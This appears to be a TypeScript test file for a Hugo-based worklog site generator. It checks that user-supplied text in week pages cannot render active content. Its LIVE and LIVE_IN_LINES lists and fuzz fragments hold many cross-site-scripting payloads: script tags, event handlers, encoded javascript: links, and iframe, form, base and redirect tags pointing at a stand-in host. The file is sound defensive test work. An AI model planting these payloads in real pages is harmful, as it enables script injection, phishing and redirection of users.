import fc from 'fast-check';
import { expect, it } from 'vitest';
import { newLiveContent } from '../../src/edits/live-content/new-live-content.js';
import { decodeEntities } from '../../src/markdown/entities.js';
import { Failure } from '../../src/model/failure.js';
import type { ShownWeek } from '../../src/worklog/shown-week.js';
import { readWritten, render, shownOf } from '../renderers/week-page/rendering.js';
import { SEED } from '../support/generated-pages.js';
import { describeWithHugo } from '../support/hugo.js';
import { asPage, renderWithHugo } from '../support/hugo-pages.js';

const WEEK = shownOf(
  '---\ntitle: Week 4\n---\n\n### Objectives\n\n- a\n\n### Tasks\n\n| Day | Task | Start | Reference |\n| - | - | - | - |\n| Mon | x | 01/01/2024 | |\n\n### Lessons\n\n- b\n',
);

/** A week that has a text in one place, by the name of the place. */
const PLACES: Readonly<Record<string, (text: string) => ShownWeek>> = {
  title: (text) => ({ ...WEEK, frontMatter: { ...WEEK.frontMatter, title: text } }),
  pre: (text) => ({ ...WEEK, frontMatter: { ...WEEK.frontMatter, pre: text } }),
  'another key': (text) => ({ ...WEEK, frontMatter: { ...WEEK.frontMatter, other: { deep: [{ key: text }] } } }),
  'the name of a key': (text) => ({
    ...WEEK,
    frontMatter: { ...WEEK.frontMatter, other: { deep: [{ [text]: 'x' }] } },
  }),
  objective: (text) => objectives({ text }),
  'nested objective': (text) => objectives({ text: 'x', items: [{ text, items: [] }] }),
  group: (text) => objectives({ group: text }),
  task: (text) => tasks({ items: [{ text, items: [] }] }),
  'two tasks': (text) => tasks({ items: text.split('<br>').map((own) => ({ text: own, items: [] })) }),
  day: (text) => tasks({ day: { text, weekdays: [] } }),
  start: (text) => tasks({ start: { text, date: null } }),
  'address of a source': (text) => tasks({ references: [{ url: text, text: null }] }),
  'address of a named source': (text) => tasks({ references: [{ url: text, text: 'w' }] }),
  'words of a source': (text) => tasks({ references: [{ url: 'https://a.b/', text }] }),
  'source in words': (text) =>
    tasks({
      references: [
        { url: null, text },
        { url: 'https://a.b/', text: null },
      ],
    }),
  'another cell': (text) => tasks({ extra: { Hours: text } }),
  'name of a column': (text) => tasks({ extra: { [text]: '1' } }),
  heading: (text) => lessons({ heading: `Lessons: ${text}` }),
  paragraph: (text) => lessons({ paragraphs: [text] }),
  'two paragraphs': (text) => lessons({ paragraphs: text.split('\n\n') }),
  'bullet of a section': (text) => lessons({ items: [{ group: null, text, items: [] }] }),
};

function objectives(own: Partial<ShownWeek['objectives'][number]>): ShownWeek {
  return { ...WEEK, objectives: WEEK.objectives.map((one) => ({ ...one, ...own })) };
}
function tasks(own: Partial<ShownWeek['tasks'][number]>): ShownWeek {
  return { ...WEEK, tasks: WEEK.tasks.map((one) => ({ ...one, ...own })) };
}
function lessons(own: Partial<ShownWeek['sections'][number]>): ShownWeek {
  return {
    ...WEEK,
    sections: WEEK.sections.map((one) => (one.roles.includes('lessons') ? { ...one, ...own } : one)),
  };
}

const LONG = 'a'.repeat(300);

/** Would run, load or change something as it stands in a page. */
const LIVE = [
  '{{< x >}}',
  '{{<x>}}',
  '{{% x %}}',
  '{{{< x >}}',
  `{{< x caption="${LONG}" >}}`,
  '{{</*script>alert(1)</script>*/>}}',
  '{{</* x */>}} {{< x >}}',
  'HAHAHUGOSHORTCODE-s0-HBHB',
  '<script>alert(1)</script>',
  '<ScRiPt src=//e.vil></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<b onmouseover="alert(1)">x</b>',
  '<br onclick=alert(1)>',
  '<iframe src="https://e.vil"></iframe>',
  '<style>*{display:none}</style>',
  '<svg onload=alert(1)></svg>',
  '<math><a href="javascript:alert(1)">x</a></math>',
  '<form action="https://e.vil"><input name=password></form>',
  '<base href="https://e.vil">',
  '<meta http-equiv=refresh content="0;url=https://e.vil">',
  '<object data="x"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="javascript&#58alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="https://a.b" onclick="alert(1)">x</a>',
  '<a href="https://a.b" style="position:fixed;inset:0">x</a>',
  '<div style="position:fixed;inset:0">x</div>',
  '</article></main><h1>gone',
  '<? ><script>alert(1)</script> ?>',
  '<!X ><script>alert(1)</script>>',
  '<![CDATA[ ><script>alert(1)</script> ]]>',
  '[w](javascript:alert(1))',
  '[w](JaVaScRiPt:alert(1))',
  '[w](javascript&colon;alert(1))',
  '[w](javascript&#58;alert(1))',
  '[w](&#106;avascript:alert(1))',
  '[w](javascript\\:alert(1))',
  '[w](<javascript:alert(1)>)',
  '[w]( javascript:alert(1))',
  '[w](vbscript:msgbox)',
  '[w](data:text/html,<b>x)',
  '![w](data:image/svg+xml,y)',
  '<javascript:alert(1)>',
  '<vbscript:x>',
];

/** The same, in places that may have several lines. */
const LIVE_IN_LINES = [
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]: <javascript:alert(1)>\n\n[r]',
  'term\n: `a\n: <script>alert(1)</script>`',
  'term\n: | a | b |\n  |---|---|\n  | `x | <script>alert(1)</script> ` |',
  'a[^1]\n\n[^1]: <div onmouseover=alert(1) ',
  'a[^1]\n\n[^1]: <script>\n    alert(1)</script>',
  'a[^1]\n[^1]: `<b>\n[^2]: <script>alert(1)</script>`',
  'x `a\n<script>alert(1)</script>',
  '<b>\n\\<script>alert(1)</script>',
  '<b>\n`<script>alert(1)</script>`',
  '<!--> <script>alert(1)</script> -->',
  '<!-- x --!> <script>alert(1)</script> -->',
  '<https:/tabindex=1/autofocus/onfocus=alert(1)>',
  '<ul> <https:/a="x> "onfocus=alert(1) tabindex=1 autofocus >',
  'use {{<br>x >}} y',
  'ends with {{',
  '{{<\nx\n>}}',
  '- {{%\n x %}}',
];

/** Words, the forms that worklogs are written with, and what only looks dangerous. */
const HARMLESS = [
  'Read `<script>alert(1)</script>` and `[w](javascript:alert(1))`',
  '\\<script>alert(1)\\</script>',
  'a <b>bold</b> and <i>thin</i> word, x<sub>2</sub>',
  '5 < 6 > 4, a <- b, I <3 AWS & Co',
  '[words](https://a.b/?x=1&y=2#z) and <https://a.b/c> and https://a.b',
  '<a href="https://a.b/" target="_blank" rel="noopener">words</a>',
  'Mail <me@example.com> or [me](mailto:me@example.com)',
  '[near](../week-3/) ![map](map.png) [top](#top) [root](/a/b/)',
  'note <!-- a comment -->',
  '{{ .Title }} and {{/* x */}} and { a: 1 }',
  'Show {{</* x */>}}',
  'Time: 10:30, [1]: x, arr[0](y)',
  'JavaScript: the good parts; data: a lake, VBScript: no',
  '=cmd()',
  ']]>',
];

/** What pages are made of at random: whatever begins or ends code, blocks, tags and links. */
const FRAGMENTS = [
  ...['`', '``', '```', '~~~', '\\', '|', '\n', '\n', '\n\n', ' ', '    ', '- ', '1. ', '> ', ': ', '[^1]: ', '[^1]'],
  ...[
    'term\n: ',
    '|---|',
    '| a | b |',
    '# ',
    '---',
    '===',
    '**',
    '_',
    'a',
    'b',
    '"',
    "'",
    '=',
    '!',
    '(',
    ')',
    '[w]',
    '<',
  ],
  ...['<b>', '</b>', '<br>', '<ul>', '<li>', '<!--', '-->', '<!-- x -->', '<?', '<![CDATA[', '<!X ', '>', '/*', '*/'],
  ...[
    '<script>alert(1)</script>',
    '<script>',
    '</script>',
    '<div onmouseover=alert(1)>',
    '<div ',
    ' onclick=x',
    '"onfocus=x',
  ],
  ...['<https://a.b/', '<https:/a="x>', '<a href="', 'https://a.b">', '&lt;', '&#60;script>', '{style="x"}', '{', '}'],
  ...['(javascript:alert(1))', '[r]: javascript:x', '[r]', '<javascript:x>', 'javascript&colon;x', 'data:text/html,'],
];
const PAGES = 2000;

/** An element that no browser knows, with attributes that do nothing: what a block of HTML makes of an address. */
const ADDRESS_AS_TAG = /<https:\/\/?(?:(?!["'`]|\/(?:on|style))[^\s<>])*>/gi;

const VALUE = '"[^"]*"';
const TAG =
  /<(?:\/?(?:h\d|p|ul|ol|li|table|thead|tbody|tr|t[hd]|a|code|pre|strong|em|del|br|hr|b|i|s|sub|sup|div|dl|dt|dd|blockquote|section|img|input|span)\b((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>|!--[^<>]*-->)/gi;
const ATTRIBUTE = new RegExp(`\\s([a-z-]+)(?:=(${VALUE}))?`, 'gi');
const ATTRIBUTES = new Set(
  'id class href src alt title role tabindex type checked disabled start target rel data-lang'.split(' '),
);

/** The text of an attribute, as browsers read it: with names that our reader leaves, and numbers without a semicolon. */
function attributeText(value: string): string {
  return decodeEntities(value.replaceAll('&colon;', ':').replace(/(&#\d+)(?![\d;])/g, '$1;'));
}

/** What of Hugo's HTML is more than words, lists, tables and links to the web; null where nothing is. */
function actingPart(html: string): string | null {
  const rest = html.replace(ADDRESS_AS_TAG, ' ').replace(TAG, (tag, attributes: string | undefined) => {
    for (const [, name = '', value = '""'] of (attributes ?? '').matchAll(ATTRIBUTE)) {
      if (!ATTRIBUTES.has(name)) return `<${tag}`;
      if (name !== 'href' && name !== 'src') continue;
      const { protocol } = new URL(attributeText(value.slice(1, -1)), 'https://site.example/');
      if (!['https:', 'http:', 'mailto:'].includes(protocol)) return `<${tag}`;
    }
    return ' ';
  });
  return /<[a-z/!?].{0,40}/i.exec(rest)?.[0] ?? null;
}

/** The page, unless it is refused. */
function written(week: ShownWeek): string | null {
  try {
    const page = render(week);
    return newLiveContent(null, readWritten(page)).length === 0 ? page : null;
  } catch (error) {
    if (error instanceof Failure) return null;
    throw error;
  }
}

/** Every text as it stands in the page, and in a theme that takes texts of the front matter as HTML and as Markdown. */
function shownByHugo(pages: readonly string[]): string[] {
  const theme =
    '{{ with .Page.Params.pre }}{{ . | safeHTML }}{{ end }} {{ .Page.Title | safeHTML }} {{ .Page.Title | markdownify }} {{ range .Page.Params.deep }}{{ with .key }}{{ . | markdownify }}{{ end }}{{ end }}';
  return renderWithHugo(
    pages.map((page) => `${page}\n{{< theme >}}\n`),
    { 'theme.html': theme },
  );
}

describeWithHugo('a week from somebody else', () => {
  it('comes to nothing that acts, whatever stands where', { timeout: 120_000 }, () => {
    const cases = Object.entries(PLACES).flatMap(([place, weekWith]) =>
      [...LIVE, ...LIVE_IN_LINES].flatMap((text) => {
        const page = written(weekWith(text));
        return page === null ? [] : [{ name: `${place}: ${text}`, page }];
      }),
    );
    const html = shownByHugo(cases.map(({ page }) => page));
    const acting = cases.flatMap(({ name }, index) => {
      const part = actingPart(html[index] ?? '');
      return part === null ? [] : [`${name} → ${part}`];
    });
    expect(acting).toEqual([]);
    process.stderr.write(
      `${Object.keys(PLACES).length * (LIVE.length + LIVE_IN_LINES.length)} weeks, ${cases.length} of them come to words\n`,
    );
  });

  it(`comes to nothing that acts in ${PAGES} pages made at random`, { timeout: 120_000 }, () => {
    const text = fc
      .array(fc.constantFrom(...FRAGMENTS), { minLength: 2, maxLength: 14 })
      .map((parts) => parts.join(''));
    const pages = fc.sample(text, { numRuns: PAGES, seed: SEED }).flatMap((own) => {
      const front = `---\ntitle: x\npre: ${JSON.stringify(own)}\n---\n`;
      return [asPage(`\n### Lessons\n\n${own}\n`), `${front}\n### Lessons\n`];
    });
    const made = pages.filter((page) => newLiveContent(null, readWritten(page)).length === 0);
    const html = shownByHugo(made);
    const acting = made.flatMap((page, index) => {
      const part = actingPart(html[index] ?? '');
      return part === null ? [] : [`${page} → ${part}`];
    });
    expect(acting).toEqual([]);
    process.stderr.write(`${made.length} of ${pages.length} pages made at random are let through\n`);
  });

  it('is judged by Hugo: each of these acts where nobody refuses it', { timeout: 120_000 }, () => {
    const texts = LIVE.filter((text) => !/\{\{|HAHAHUGO/.test(text));
    const html = renderWithHugo(texts.map((text) => render(objectives({ text }))));
    expect(texts.filter((_, index) => actingPart(html[index] ?? '') === null)).toEqual([]);
  });

  it('may have words and all forms that worklogs are written with', { timeout: 120_000 }, () => {
    const bodies = ['objective', 'nested objective', 'task', 'another cell', 'paragraph', 'bullet of a section'];
    const cases = bodies.flatMap((place) =>
      HARMLESS.map((text) => ({
        name: `${place}: ${text}`,
        page: written((PLACES[place] as (own: string) => ShownWeek)(text)),
      })),
    );
    expect(cases.filter(({ page }) => page === null).map(({ name }) => name)).toEqual([]);
    const html = shownByHugo(cases.map(({ page }) => page ?? ''));
    expect(
      cases.map(({ name }, index) => [name, actingPart(html[index] ?? '')]).filter(([, part]) => part !== null),
    ).toEqual([]);
  });
});
